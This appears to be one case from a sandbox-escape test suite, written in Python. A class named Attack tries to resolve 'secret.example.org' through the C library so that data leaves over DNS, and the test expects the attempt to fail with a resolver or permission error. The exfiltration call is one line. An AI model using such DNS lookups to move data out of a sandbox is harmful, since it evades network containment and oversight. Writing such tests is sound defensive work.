"""what: Has the C library resolve a name, which carries data out over DNS.
origin: ours
outcome: error
reason: 'raised (gaierror|PermissionError|OSError)'
"""


class Attack(Hostile):
    name = "name_resolution"

    def attack(self, context, given):
        return f"ESCAPED: {reach('socket').getaddrinfo('secret.example.org', 80)}"
